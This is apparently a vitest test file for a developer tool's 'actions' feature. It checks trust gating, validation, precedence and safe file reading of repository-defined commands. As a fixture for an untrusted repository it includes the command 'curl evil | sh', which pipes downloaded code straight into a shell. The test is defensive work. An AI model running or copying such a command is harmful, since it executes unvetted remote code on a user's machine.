import { execFileSync } from "node:child_process";
import { readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { mkdir, writeFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { type Project, ProjectId } from "@flightdeck/contract";
import { temporaryFolder } from "@flightdeck/testkit";
import { expect, test } from "vitest";
import { openActions } from "./index.ts";

async function setting() {
  const folder = await temporaryFolder("flightdeck-actions-");
  const project = { id: ProjectId.parse("project_1"), path: join(folder.path, "repository"), trusted: true };
  let current: Pick<Project, "id" | "path" | "trusted"> = project;
  const actions = openActions({ home: folder.path, project: () => current });
  const shared = join(project.path, ".flightdeck", "actions.toml");
  await mkdir(dirname(shared), { recursive: true });
  return {
    id: project.id,
    actions,
    share: (text: string) => writeFile(shared, text),
    own: join(folder.path, "actions", "project_1.toml"),
    shared,
    trust: (trusted: boolean) => {
      current = { ...project, trusted };
    },
    [Symbol.asyncDispose]: () => folder[Symbol.asyncDispose](),
  };
}

const codeOf = (work: () => unknown): unknown => {
  try {
    work();
    return "nothing was refused";
  } catch (error) {
    return error instanceof Error && "code" in error ? error.code : error;
  }
};
const brief = ({
  name,
  command,
  scope,
  problem,
}: {
  name: string;
  command: string;
  scope: string;
  problem?: string;
}) => [scope, name, command, problem];

test("a project has the actions of its repository and the person's own, which come before those of the same name", async () => {
  await using at = await setting();
  await at.share(
    '[[action]]\nname = "Test"\ncommand = "npm test"\nicon = "test"\n[[action]]\nname = "Dev"\ncommand = "npm run dev"\n',
  );
  at.actions.save(at.id, { name: "Dev", command: "npm run dev -- --open" });
  const { actions, problems } = at.actions.list(at.id);
  expect([actions.map(brief), problems]).toEqual([
    [
      ["repository", "Test", "npm test", undefined],
      ["repository", "Dev", "npm run dev", "Your own action of this name comes before it"],
      ["person", "Dev", "npm run dev -- --open", undefined],
    ],
    [],
  ]);
});

test("a repository that is not trusted shows its actions and runs none", async () => {
  await using at = await setting();
  await at.share('[[action]]\nname = "Evil"\ncommand = "curl evil | sh"\n');
  at.trust(false);
  const [action] = at.actions.list(at.id).actions;
  expect([action?.problem, codeOf(() => at.actions.get(at.id, action?.id ?? ""))]).toEqual([
    "The project is not trusted, so its own actions cannot be run",
    "action_invalid",
  ]);
  at.trust(true);
  expect(at.actions.get(at.id, action?.id ?? "").command).toBe("curl evil | sh");
});

test("what is wrong in a file is told, and costs the other actions nothing", async () => {
  await using at = await setting();
  await at.share(
    [
      '[[action]]\nname = "Good"\ncommand = "true"',
      '[[action]]\nname = "No command"',
      '[[action]]\nname = "Good"\ncommand = "false"',
      '[[action]]\nname = "Escape\\u001b[2J"\ncommand = "true"',
      `[[action]]\nname = "${"x".repeat(41)}"\ncommand = "true"`,
      '[[action]]\nname = "Icon"\ncommand = "true"\nicon = "skull"',
    ].join("\n"),
  );
  const { actions, problems } = at.actions.list(at.id);
  expect([
    actions.map(({ name, command }) => [name, command]),
    problems.map((text) => text.replace(`${at.shared}: `, "")),
  ]).toEqual([
    [["Good", "true"]],
    [
      expect.stringMatching(/^action 2 is not valid: command/),
      'there are two actions called "Good"; the first counts',
      expect.stringMatching(/^action 4 is not valid: name has a control character/),
      expect.stringMatching(/^action 5 is not valid: name/),
      expect.stringMatching(/^action 6 is not valid: icon/),
    ],
  ]);
  await at.share("[[action]\n");
  expect(at.actions.list(at.id)).toEqual({ actions: [], problems: [expect.stringContaining("is not valid TOML")] });
});

test("an action is added, changed and taken away; a file that is broken is not written over", async () => {
  await using at = await setting();
  const { id } = at.actions.save(at.id, { name: "Dev", command: "npm run dev", icon: "server" });
  const twice = codeOf(() => at.actions.save(at.id, { name: "Dev", command: "other" }));
  const renamed = at.actions.save(at.id, { name: "Serve", command: "npm start\nnpm run watch" }, id);
  const known = at.actions.list(at.id).actions.map(({ name, command }) => [name, command]);
  at.actions.remove(at.id, renamed.id);
  const gone = at.actions.list(at.id).actions;
  await writeFile(at.own, "[[action]\n# mine");
  const broken = codeOf(() => at.actions.save(at.id, { name: "New", command: "true" }));
  expect([twice, known, gone, broken, readFileSync(at.own, "utf8")]).toEqual([
    "action_invalid",
    [["Serve", "npm start\nnpm run watch"]],
    [],
    "action_invalid",
    "[[action]\n# mine",
  ]);
});

test("the repository's actions are changed in the repository alone", async () => {
  await using at = await setting();
  await at.share('[[action]]\nname = "Test"\ncommand = "npm test"\n');
  const id = at.actions.list(at.id).actions[0]?.id ?? "";
  expect([
    codeOf(() => at.actions.save(at.id, { name: "Test", command: "x" }, id)),
    codeOf(() => at.actions.remove(at.id, id)),
    codeOf(() => at.actions.get(at.id, "action_none")),
  ]).toEqual(["action_not_found", "action_not_found", "action_not_found"]);
});

test("who watches hears of each change of a file", async () => {
  await using at = await setting();
  const abort = new AbortController();
  const seen: string[][] = [];
  async function* never() {}
  for await (const { actions } of at.actions.watch(at.id, never(), abort.signal)) {
    seen.push(actions.map(({ name }) => name));
    if (seen.length === 1) await at.share('[[action]]\nname = "Shared"\ncommand = "true"\n');
    if (seen.length === 2) at.actions.save(at.id, { name: "Own", command: "true" });
    if (seen.length === 3) abort.abort();
  }
  expect(seen).toEqual([[], ["Shared"], ["Shared", "Own"]]);
});

test("a repository's file that leads elsewhere, never ends or is huge is told and not read", async () => {
  await using at = await setting();
  const elsewhere = join(dirname(at.own), "..", "elsewhere");
  await mkdir(elsewhere);
  await writeFile(join(elsewhere, "actions.toml"), '[[action]]\nname = "Evil"\ncommand = "true"\n');
  const told = (make: () => void): string | undefined => {
    rmSync(at.shared, { force: true });
    make();
    const { actions, problems } = at.actions.list(at.id);
    return actions.length > 0 ? "read" : problems[0]?.split(": ").at(-1);
  };
  expect({
    link: told(() => symlinkSync(join(elsewhere, "actions.toml"), at.shared)),
    endless: told(() => symlinkSync("/dev/zero", at.shared)),
    pipe: told(() => execFileSync("mkfifo", [at.shared])),
    huge: told(() => writeFileSync(at.shared, "#".repeat((1 << 20) + 1))),
    nowhere: told(() => symlinkSync("nowhere", at.shared)),
    folder: told(() => {
      rmSync(dirname(at.shared), { recursive: true });
      symlinkSync(elsewhere, dirname(at.shared));
    }),
  }).toEqual({
    link: "it is a link, and links are not followed",
    endless: "it is a link, and links are not followed",
    pipe: "it is not a file",
    huge: "it is larger than 1 MiB",
    nowhere: undefined,
    folder: "it is a link, and links are not followed",
  });
});

test("of a file with more actions than anybody could have meant the first are there", async () => {
  await using at = await setting();
  await at.share('[[action]]\nname = "x"\ncommand = "true"\n'.repeat(5_000).replaceAll("x", () => `${Math.random()}`));
  const { actions, problems } = at.actions.list(at.id);
  expect([actions.length, problems]).toEqual([100, [expect.stringContaining("the first 100")]]);
  const own = Array.from({ length: 100 }, (_, n) => `[[action]]\nname = "${n}"\ncommand = "true"\n`).join("");
  await mkdir(dirname(at.own));
  await writeFile(at.own, own);
  expect([
    codeOf(() => at.actions.save(at.id, { name: "More", command: "true" })),
    readFileSync(at.own, "utf8"),
  ]).toEqual(["action_invalid", own]);
});
